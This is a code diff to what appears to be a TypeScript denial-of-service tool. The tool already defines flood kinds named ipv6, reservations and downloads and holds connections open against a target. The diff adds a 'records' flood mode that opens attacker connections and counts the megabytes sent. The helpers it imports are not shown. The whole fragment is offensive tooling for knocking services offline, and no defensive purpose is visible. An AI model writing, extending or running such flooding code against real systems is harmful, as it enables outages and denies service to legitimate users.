@@ -8,6 +8,7 @@ import { request } from 'node:http'
 import { connect, type Socket } from 'node:net'
 import { networkInterfaces } from 'node:os'
 import type { Attack, AttackReport, FloodKind, Target } from './kinds.ts'
+import { floodRecords, openAttacker } from './records.ts'
 
 const report = { connections: 0, sentMB: 0, seats: 0 }
 let isOver = true
@@ -49,6 +50,7 @@ const LOOPS: Readonly<Record<FloodKind, number>> = {
   ipv6: 500,
   reservations: 8,
   downloads: 90,
+  records: 1,
 }
 
 function loopsOf(attack: Attack): readonly Promise<void>[] {
@@ -79,6 +81,13 @@ async function attackOnce({ kind, from, target }: Attack, loop: number): Promise
       if (loop % 2 === 0) socket?.pause()
       else socket?.on('data', (data) => data.length < 2000 && !isOver && socket.write(asking))
       return holdOpen(socket)
+    }
+    case 'records': {
+      const attacker = await openAttacker(target, from)
+      if (attacker === undefined) return delay(100)
+      report.connections++
+      report.sentMB += (await floodRecords(attacker, () => isOver)) / 1e6
+      return attacker.close()
     }
   }
 }
